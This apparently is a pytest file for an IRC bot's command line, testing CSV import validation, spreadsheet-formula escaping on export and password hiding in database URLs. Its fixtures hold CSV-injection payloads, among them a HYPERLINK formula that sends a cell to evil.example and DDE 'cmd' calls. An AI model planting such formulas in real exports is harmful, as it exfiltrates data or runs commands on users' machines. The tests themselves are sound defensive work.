"""Hostile data through the shell: a backlog CSV, a spreadsheet export, a database URL.

Each attack goes through the real ``ircbot`` command (click's CliRunner on ``ircbot.cli.main``)
against a real SQLite file and a real PostgreSQL database:

- ``trainee import`` of a CSV whose nick is no IRC nick, or whose cells carry control
  characters or CTCP (``\\x01``): they would reach IRC in every ping that names the trainee.
  One line naming the row, exit code 2, nothing imported.
- ``trainee import`` of a row that names one voucher twice (``h1;H1``): it was a traceback
  (the unique vouch constraint); now one line naming the row, nothing imported.
- ``export --format csv`` of notes and reasons typed on IRC: a cell starting with ``=``,
  ``+``, ``-``, ``@``, tab or CR is a formula to a spreadsheet (OWASP "CSV injection"), so
  it gets a leading ``'``. The JSON export keeps the text as it is.
- A database URL whose password holds an unencoded ``@``: the part after it was printed as
  the host. Now a configuration error that names the key and shows no part of the password.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from ircbot_plugins.livechat.models import Attempt, Person, Vouch

from ircbot.cli import main

from .conftest import Database, Team


@pytest.fixture
def config_file(db: Database, tmp_path: Path) -> Path:
    path = tmp_path / "ircbot.toml"
    path.write_text(f'[database]\nurl = "{db.url}"\n\n[livechat]\nthreshold = 2\n', "utf-8")
    return path


@pytest.fixture
def cli(config_file: Path):
    runner = CliRunner()

    def run(*args: str, env: dict[str, str] | None = None) -> Result:
        return runner.invoke(main, ["-c", str(config_file), *args], env=env)

    return run


def refused(result: Result) -> str:
    """The one line of a refusal (exit code 2, no traceback)."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


def imported_nothing(team: Team, people_before: int) -> None:
    assert team.count(Attempt) == 0 and team.count(Vouch) == 0
    assert team.count(Person) == people_before
    assert team.outbox() == []


HOSTILE_ROWS = [
    # (the row after "account,nick,chat_account,vouchers", what the error names)
    ("paula,Pau la,,", "nick 'Pau la'"),
    ("paula,9paula,,", "nick '9paula'"),
    ("paula,-paula,,", "nick '-paula'"),
    ("paula,paula!x@y,,", "nick 'paula!x@y'"),
    ("paula,Päula,,", "nick 'Päula'"),
    ("paula," + "p" * 40 + ",,", "nick 'ppp"),
    ("paula,\x01ACTION waves\x01,,", "nick"),
    ("paula,Paula,\x01VERSION\x01,", "chat_account"),
    ("paula,Paula,\x02bold\x02,", "chat_account"),
    ("paula,Paula,spark\u202e,", "chat_account"),
    ("pa\x03ula,Paula,,", "account"),
    ("paula,Paula,,bob\x01", "vouchers"),
    ("paula,Paula,\x7f,", "chat_account"),
]


@pytest.mark.parametrize(("row", "named"), HOSTILE_ROWS)
def test_import_refuses_nicks_and_cells_irc_would_choke_on(
    cli, team: Team, tmp_path: Path, row: str, named: str
) -> None:
    people = team.count(Person)
    file = tmp_path / "backlog.csv"
    file.write_text(f"account,nick,chat_account,vouchers\nquinn,Quinn,,\n{row}\n", "utf-8")
    line = refused(cli("trainee", "import", str(file)))
    assert f"{file}: row 3: " in line and named in line and "nothing was imported" in line
    assert not any(c in line for c in "\x01\x02\x03\x7f\u202e"), "the error echoes them escaped"
    imported_nothing(team, people)


def test_a_nul_byte_is_one_line_too(cli, team: Team, tmp_path: Path) -> None:
    people = team.count(Person)
    file = tmp_path / "backlog.csv"
    file.write_bytes(b"account,nick\nquinn,Quinn\npaula,Pa\x00ula\n")
    line = refused(cli("trainee", "import", str(file)))
    assert f"{file}: row 3: " in line and "control character" in line
    imported_nothing(team, people)


@pytest.mark.parametrize("vouchers", ["bob;BOB", "bob bob", "erin;bob;Bob"])
def test_a_voucher_named_twice_in_a_row_is_one_error_line(
    cli, team: Team, tmp_path: Path, vouchers: str
) -> None:
    people = team.count(Person)
    file = tmp_path / "backlog.csv"
    file.write_text(f"account,nick,vouchers\nquinn,Quinn,erin\npaula,Paula,{vouchers}\n", "utf-8")
    line = refused(cli("trainee", "import", str(file)))
    assert line.startswith(f"Error: {file}: row 3: ")
    assert "twice" in line and "bob" in line.lower() and "nothing was imported" in line
    imported_nothing(team, people)


def test_one_voucher_by_account_and_by_nick_is_still_one_voucher(
    cli, team: Team, tmp_path: Path
) -> None:
    with team.unit() as u:  # bob's account is "bob"; the nick he last used is "Bobby"
        from ircbot_plugins.livechat.store import touch

        touch(u, "bob", "Bobby", "bobby")
    people = team.count(Person)
    file = tmp_path / "backlog.csv"
    file.write_text("account,nick,vouchers\npaula,Paula,bob;bobby\n", "utf-8")
    line = refused(cli("trainee", "import", str(file)))
    assert "row 2: " in line and "twice" in line
    imported_nothing(team, people)


def test_a_clean_import_still_imports(cli, team: Team, tmp_path: Path) -> None:
    file = tmp_path / "backlog.csv"
    file.write_text(
        "account,nick,chat_account,vouchers\npaula,[Paula]_,spark-paula,bob;erin\nquinn,Quinn`,,\n",
        "utf-8",
    )
    done = cli("trainee", "import", str(file))
    assert done.exit_code == 0, done.output
    assert "imported 2, ready now 1" in done.stdout
    assert team.state("paula") == "ready" and team.state("quinn") == "training"


FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "chat_account": "+1-555-0100",
    "hold": "-2+3+cmd|' /C calc'!A0",
    "reject": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def hostile(team: Team) -> Team:
    """Text typed on IRC that a spreadsheet would run: in a note, a chat account, reasons."""
    team.register("alice", FORMULAS["chat_account"])
    team.vouch("bob", "alice", FORMULAS["note"])
    team.vouch("erin", "alice", FORMULAS["tab"])
    team.hold("carol", "alice", FORMULAS["hold"])
    team.register("zoe")
    team.vouch("frank", "zoe", FORMULAS["cr"])
    team.reject("dave", "zoe", FORMULAS["reject"])
    return team


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_export_csv_makes_formulas_inert(cli, hostile: Team, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    assert cli("export", "--format", "csv", "-o", str(folder)).exit_code == 0
    everything = []
    for file in sorted(folder.iterdir()):
        with file.open(encoding="utf-8", newline="") as handle:  # keep a CR in a cell
            everything += cells(handle.read())
    for text in FORMULAS.values():
        assert text not in everything, f"{text!r} left as it is"
        assert "'" + text in everything, f"{text!r} not made inert"
    dangerous = [c for c in everything if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # stdout carries the same cells
    printed = cli("export", "--format", "csv")
    assert printed.exit_code == 0
    assert "'" + FORMULAS["note"] in cells(printed.stdout)
    # numbers and dates stay numbers and dates; JSON keeps the text as it was typed
    people = list(csv.DictReader(io.StringIO((folder / "people.csv").read_text("utf-8"))))
    assert all(p["id"].isdigit() for p in people)
    data = json.loads(cli("export", "--format", "json").stdout)
    assert FORMULAS["note"] in [v["note"] for v in data["vouches"]]


PASSWORD_PARTS = ("s3cr", "tP4ss")


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://botuser:s3cr@tP4ss@127.0.0.1:5432/livechat",
        "postgresql+psycopg://botuser:s3cr@tP4ss@127.0.0.1/livechat?sslmode=disable",
        "postgresql://botuser:s3cr@tP4ss@@127.0.0.1/livechat",
    ],
)
@pytest.mark.parametrize("command", [("config", "check"), ("trainee", "list"), ("db", "upgrade")])
def test_an_unencoded_at_in_the_password_names_the_key_and_hides_it(
    tmp_path: Path, url: str, command: tuple[str, ...]
) -> None:
    path = tmp_path / "ircbot.toml"
    path.write_text(f'[database]\nurl = "{url}"\n', "utf-8")
    result = CliRunner().invoke(main, ["-c", str(path), *command])
    line = refused(result)
    assert line.startswith(f"error: {path}: [database] url: ") and "%40" in line
    for part in PASSWORD_PARTS:
        assert part not in result.output
    from_env = CliRunner().invoke(
        main,
        ["-c", str(path), *command],
        env={"IRCBOT_DATABASE__URL": url.replace("livechat", "other")},
    )
    line = refused(from_env)
    assert "environment IRCBOT_DATABASE__URL" in line
    for part in PASSWORD_PARTS:
        assert part not in from_env.output


def test_an_encoded_at_is_a_password_like_any_other(tmp_path: Path) -> None:
    path = tmp_path / "ircbot.toml"
    path.write_text('[database]\nurl = "postgresql://botuser:s3cr%40tP4ss@db.example/lc"\n')
    result = CliRunner().invoke(main, ["-c", str(path), "config", "check"])
    assert result.exit_code == 0, result.output
    assert 'url = "postgresql://botuser:****@db.example/lc"' in result.stdout
    for part in PASSWORD_PARTS:
        assert part not in result.output
